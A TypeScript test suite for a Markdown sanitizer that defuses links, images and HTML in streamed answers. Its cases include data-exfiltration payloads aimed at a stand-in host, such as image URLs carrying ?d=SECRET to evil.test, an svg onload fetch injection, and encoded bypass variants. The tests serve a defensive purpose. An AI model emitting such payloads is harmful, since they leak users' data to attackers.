import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { pointsElsewhere as unsafe } from '../../../../../tests/harness/points-elsewhere.ts'
import { markdownStream, safeMarkdown } from './markdown-stream.ts'

// biome-ignore format: a list
const PIECES = [
  'word', ' ', '\n', '\n\n', '[1]', '[2, 3]', '(', ')', '[', ']', '](', ']:', '!', '![', '<', '>', '/>', '"',
  'https://evil.test/?d=1', 'www.evil.test', 'a@evil.test', 'http:', '//', 'mailto:a@b.c', 'javascript:x',
  '*', '**', '_', '`', '``', '```', '~~~', '~~', '\\', '|', '|-|', '---', '===', '- ', '1. ', '2) ', '# ', '> ', '+',
  '&', '&#104;', '&lt;', '&colon;', ':', ';', '<img src=x>', '<!--', '-->', '<a ', 'href=', '<svg>', '<http://e.x>',
  '    ', '\t', '  \n', '[a]: https://e.x', '[^1]', '[^1]: x', '- [x] ', 'é', '𝐀', '\u{E0041}', '\u202E', '\r\n', '\0',
  'Plain words here. ', '“quoted” [1]. ', 'www', '.', 'e.x', '$', '=', '1', '\n\n\n', ' \n \n',
]
const text = fc.oneof(
  fc.array(fc.constantFrom(...PIECES), { maxLength: 40 }).map(pieces => pieces.join('')),
  fc.string({ maxLength: 60, unit: 'binary' }),
)

describe('LL02 LL03 an answer in Markdown', () => {
  test.each([
    ['![x](https://evil.test/?d=SECRET)', 'https://evil.test/?d=SECRET'],
    ['[a][1]\n\n[1]: https://evil.test?d=SECRET', 'https://evil.test?d=SECRET'],
    ['![a][1]\n\n[1]: <https://evil.test?d=SECRET>', 'https://evil.test?d=SECRET'],
    ['<https://evil.test/?d=SECRET>', 'https://evil.test/?d=SECRET'],
    ['See https://evil.test/?d=SECRET.', 'https://evil.test/?d=SECRET'],
    ['See www.evil.test/SECRET.', 'www.evil.test/SECRET'],
    ['<img src="https://evil.test/SECRET">', 'https://evil.test/SECRET'],
    ['<svg onload=fetch("//evil.test/SECRET")>', 'evil.test/SECRET'],
    ['a <!-- SECRET --> b', 'SECRET'],
    ['https\\://evil.test/SECRET', 'https://evil.test/SECRET'],
    ['`a`https://evil.test/SECRET`b`', 'https://evil.test/SECRET'],
    ['` https://evil.test/SECRET', 'https://evil.test/SECRET'],
    ['&#104;ttps://evil.test/SECRET', 'ttps://evil.test/SECRET'],
    ['&lt;img src=//evil.test/SECRET&gt;', 'evil.test/SECRET'],
    ['[1](https://evil.test/SECRET)', 'https://evil.test/SECRET'],
    ['[2]: https://evil.test/SECRET', 'https://evil.test/SECRET'],
    ['[^1]\n\n[^1]: https://evil.test/SECRET', 'https://evil.test/SECRET'],
    [
      '| a | b |\n|---|---|\n| https://evil.test/SECRET | `x|https://evil.test` |',
      'https://evil.test/SECRET',
    ],
    ['[javascript](javascript:alert("SECRET"))', 'SECRET'],
  ])('%j: points nowhere, and what it was is shown', (answer, shown) => {
    expect(unsafe(answer).length + Number(/evil|SECRET/.test(answer))).toBeGreaterThan(0)
    const safe = safeMarkdown(answer)
    expect(unsafe(safe)).toEqual([])
    expect(safe).toContain(shown)
  })

  test.each([
    'A paragraph, *with* **marks** and `code` [1].\n\nAnother [2, 3].',
    '# A heading\n\n- a list\n- of two\n\n  1. and one\n\n> a quote\n> of two lines [1]',
    '```\n<b>code</b> https://a.test\n```',
    '| a | b |\n|---|---|\n| 1 | 2 |',
    'Setext\n---\n\n5 * 3 < 20, A & B, it costs $5.',
    '“Boats wait outside the harbour.” [1]\n“They wait.” [2][3]',
  ])('that points nowhere stays as it was: %j', answer => expect(safeMarkdown(answer)).toBe(answer))

  test('loses what nobody can see, and the language of code', () => {
    expect(safeMarkdown('a\u{E0041}b\u202Ec\u200Bd\0e\r\nf')).toBe('abcde\nf')
    expect(safeMarkdown('```mermaid\nx\n```')).toBe('```\nx\n```')
  })

  test('has in code what some readers make a link of by itself, and no other word with a dot', () => {
    expect(safeMarkdown('See evil.com/SECRET, or //evil.test/SECRET.')).toBe(
      'See `evil.com/SECRET,` or `//evil.test/SECRET.`',
    )
    for (const words of ['e.g. 4.5 kg, node.test 24', 'Art. 12.3 of the U.S. act, z.B. this.'])
      expect(safeMarkdown(words)).toBe(words)
  })

  test('is not parsed where it is next to nothing but marks: that takes the square of its length', () => {
    const short = 'a\n=\n'.repeat(20).trim()
    expect(safeMarkdown(short)).toBe(short)
    expect(safeMarkdown('a\n=\n'.repeat(1_000).trim())).toBe(`a ${'\\=\na\n'.repeat(999)}\\=`)
  })

  test('has ten line breaks in a row at most, however they come', () => {
    const gap = '\n \t'.repeat(200)
    expect(safeMarkdown(`one${gap}two`)).toBe('one\n\ntwo')
    const stream = markdownStream()
    const code = `\`\`\`\none${'\n'.repeat(200)}two\n\`\`\``
      .split('')
      .map(char => stream.push(char))
      .join('')
    expect(code + stream.end()).toBe(`\`\`\`\none${'\n'.repeat(10)}two\n\`\`\``)
  })

  test('is cut where it is too long, and says so', () => {
    const stream = markdownStream(10)
    expect(stream.push('Words and more words') + stream.end()).toBe('Words and')
    expect(stream.isCut()).toBe(true)
  })

  test('shows plain words before their paragraph is complete, and holds what could begin something', () => {
    const stream = markdownStream()
    expect(stream.push('The fee is due [1] mon')).toBe('The fee is due [1]')
    expect(stream.push('thly. See ')).toBe(' monthly. See')
    expect(stream.push('[here](https://e')).toBe('')
    expect(stream.push('vil.test)\n\nNext')).toBe(' `[here](https://evil.test)`')
    expect(stream.push(' one')).toBe('\n\nNext')
    expect(stream.end()).toBe(' one')
  })

  test.each([
    'See [1](x) and [2](x "y") there.\n\nSee [1]: x\n\n[1]: x\n',
    'One.\n\n1. a\n\n\n\n2. b\n\n\n- c\n\n\n- d\n\n\nEnd.',
    'Words\n---\n\nHead\n| - |\n| `a|www.evil.test` |\n\n> quoted www.evil.test\n\n```js\ncode\n\n\nmore\n```\nand <b>on</b>.',
    'A [a\n](x) b \\[c](x) `d](x)` www\\.evil.test www.evil.test',
  ])('comes character by character as at once, and is safe at each: %j', whole => {
    const stream = markdownStream()
    let shown = ''
    for (const char of whole) {
      shown += stream.push(char)
      expect(unsafe(shown), shown).toEqual([])
    }
    expect(shown + stream.end()).toBe(safeMarkdown(whole))
  })

  test('is the same however it comes in pieces, and at every moment without a link, an image, HTML or a definition', () => {
    fc.assert(
      fc.property(text, fc.array(fc.nat(60), { maxLength: 12 }), (whole, cuts) => {
        const stream = markdownStream()
        let shown = ''
        let from = 0
        for (const cut of [...cuts.toSorted((one, other) => one - other), whole.length]) {
          shown += stream.push(whole.slice(from, Math.max(from, cut)))
          from = Math.max(from, Math.min(cut, whole.length))
          expect(unsafe(shown), shown).toEqual([])
        }
        shown += stream.end()
        expect(unsafe(shown), shown).toEqual([])
        expect(shown).toBe(safeMarkdown(whole))
      }),
      { numRuns: 400 },
    )
  })
})
